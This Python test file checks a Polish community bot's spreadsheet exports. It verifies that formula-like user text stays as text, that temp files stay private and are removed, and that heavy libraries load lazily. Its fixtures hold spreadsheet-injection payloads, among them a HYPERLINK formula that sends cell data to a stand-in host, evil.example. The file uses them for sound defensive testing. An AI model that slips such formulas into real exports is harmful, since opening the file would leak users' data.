"""The export's safety: no formulas from people's text, no personal data left on disk,
nothing heavy imported before the first update."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
import tempfile
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlmodel import select

from bot import i18n
from bot.db import Database
from bot.profile import apply_profile, load_profile
from bot.services import export as export_service
from bot.services import members as members_service
from models import Contribution, Group, Role

NAME = "=A1+Anna"
TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Kliknij")'
INSTITUTION = "@SUM(1+1)"
PHONE_LIKE = "+48 600 700 800"
ANSWER = "-2+3"


@pytest.fixture(autouse=True)
def _catalogs() -> None:
    i18n.setup("pl", "Europe/Warsaw")


@pytest.fixture
def exports(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Path:
    folder = tmp_path / "exports"
    monkeypatch.setattr(export_service, "EXPORT_DIR", folder)
    return folder


def entries(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir())


def mode(folder: Path) -> int:
    return folder.stat().st_mode & 0o777


async def hostile_data(db: Database) -> None:
    async with db.session() as session:
        await apply_profile(session, load_profile())
        member = await members_service.ensure_member(session, 4242)
        await members_service.give_consent(session, member, "pl")
        await members_service.set_profile(
            session, member, display_name=NAME, institution=INSTITUTION
        )
        await members_service.set_role(session, member, Role.LEADER)
        group = (await session.exec(select(Group))).first()
        assert group is not None
        session.add(
            Contribution(
                kind="idea",
                title=TITLE,
                details={"for_whom": ANSWER, "first_step": "\tcall " + PHONE_LIKE},
                group_id=group.id,
                author_id=member.id,
            )
        )


async def test_text_that_looks_like_a_formula_stays_text_in_xlsx(
    db: Database, tmp_path: Path, exports: Path
) -> None:
    await hostile_data(db)
    path = tmp_path / "report.xlsx"
    await export_service.write_export(db, path, "xlsx", language="pl")
    workbook = load_workbook(path)
    formulas = [
        (sheet.title, cell.coordinate)
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert formulas == []
    cells = {
        cell.value: cell
        for sheet in (workbook["Członkowie"], workbook["Zgłoszenia"])
        for row in sheet.iter_rows(min_row=2)
        for cell in row
        if isinstance(cell.value, str)
    }
    for text in (NAME, INSTITUTION, TITLE):
        assert text in cells, text
        assert cells[text].data_type == "s"
    # Numbers and times are still numbers and times, not text.
    member_row = next(
        row for row in workbook["Członkowie"].iter_rows(min_row=2) if row[1].value == NAME
    )
    assert member_row[0].data_type == "n" and isinstance(member_row[0].value, int)
    assert member_row[5].is_date


async def test_text_that_looks_like_a_formula_gets_an_apostrophe_in_csv(
    db: Database, tmp_path: Path, exports: Path
) -> None:
    await hostile_data(db)
    path = tmp_path / "report.zip"
    await export_service.write_export(db, path, "csv", language="pl")
    with zipfile.ZipFile(path) as archive:
        members = list(csv.reader(io.StringIO(archive.read("Członkowie.csv").decode("utf-8-sig"))))
        ideas = list(csv.reader(io.StringIO(archive.read("Zgłoszenia.csv").decode("utf-8-sig"))))
    anna = next(row for row in members[1:] if NAME in row[1])
    assert anna[1] == "'" + NAME
    assert anna[2] == "'" + INSTITUTION
    assert anna[0].isdigit()  # the number is not touched
    idea = ideas[1]
    assert idea[2] == "'" + TITLE
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in idea)


async def test_export_leaves_nothing_in_the_system_temp_folder(
    db: Database, tmp_path: Path, exports: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    system_temp = tmp_path / "system-temp"
    system_temp.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(system_temp))
    await hostile_data(db)
    out = tmp_path / "out"
    out.mkdir()
    for fmt, name in (("xlsx", "report.xlsx"), ("csv", "report.zip")):
        await export_service.write_export(db, out / name, fmt, language="pl")
    assert entries(system_temp) == []
    # Its working files went to the private folder (0700) and are gone.
    assert mode(exports) == 0o700
    assert entries(exports) == []


def test_openpyxl_temp_files_can_be_kept_private(
    tmp_path: Path, exports: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from openpyxl import Workbook
    from openpyxl.worksheet import _writer

    monkeypatch.setattr(_writer, "create_temporary_file", _writer.create_temporary_file)
    system_temp = tmp_path / "system-temp"
    system_temp.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(system_temp))
    export_service.keep_openpyxl_temp_files_private()
    seen: list[str] = []
    create = _writer.create_temporary_file

    def spy(suffix: str = "") -> str:
        seen.append(create(suffix))
        return seen[-1]

    monkeypatch.setattr(_writer, "create_temporary_file", spy)
    book = Workbook()
    book.active.append([NAME])
    book.save(io.BytesIO())
    assert seen and all(Path(name).parent == exports for name in seen)
    assert list(system_temp.iterdir()) == []


def test_importing_the_bot_loads_no_heavy_library() -> None:
    """openpyxl, numpy, matplotlib, PIL, qrcode, dateparser, icalendar, Alembic, the panel's
    web stack, fpdf, python-docx, phonenumbers, babel's .po tools and the PostgreSQL dialect
    load when first used, not at start (start-up time and idle memory)."""
    code = (
        "import sys, bot.app, bot.cli, handlers\n"
        "handlers._features()\n"
        "import handlers.system, handlers.commands\n"
        "heavy = ('openpyxl', 'numpy', 'matplotlib', 'PIL', 'qrcode', 'dateparser',\n"
        "         'icalendar', 'alembic', 'starlette', 'uvicorn', 'jinja2', 'fpdf', 'docx',\n"
        "         'phonenumbers', 'hypothesis', 'babel.messages',\n"
        "         'sqlalchemy.dialects.postgresql')\n"
        "print(','.join(m for m in heavy if m in sys.modules))\n"
    )
    root = Path(__file__).resolve().parents[2]
    done = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, cwd=root, check=True
    )
    assert done.stdout.strip() == "", f"imported at start: {done.stdout.strip()}"


def test_the_meetings_attendance_xlsx_keeps_formula_like_names_as_text() -> None:
    """The lead's XLSX attendance list (handlers/meetings/files.py) holds names and
    institutions people typed: "=…" must stay text."""
    import io
    from datetime import UTC, datetime, timedelta
    from zoneinfo import ZoneInfo

    from openpyxl import load_workbook

    from bot.documents.attendance_xlsx import attendance_xlsx
    from models import Group, Meeting, Member, Rsvp

    start = datetime(2026, 12, 1, 16, 0, tzinfo=UTC)
    meeting = Meeting(
        id=1,
        group_id=1,
        topic='=HYPERLINK("http://evil.example/?"&A1,"Kliknij")',
        starts_at=start,
        ends_at=start + timedelta(hours=1),
        place="+48 Świetlica",
    )
    group = Group(id=1, slug="g", kind="team", name="@grupa", names={})
    person = Member(id=2, telegram_id=2, display_name="=A1+Anna", institution="-MOPS")
    rsvp = Rsvp(meeting_id=1, member_id=2, answer="yes", checked_in_at=start)
    payload = attendance_xlsx(meeting, group, [(person, rsvp)], ZoneInfo("Europe/Warsaw"))
    sheet = load_workbook(io.BytesIO(payload)).active
    assert sheet is not None
    texts = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    assert any(c.value == "=A1+Anna" for c in texts)
    assert all(c.data_type == "s" for c in texts), [(c.value, c.data_type) for c in texts]
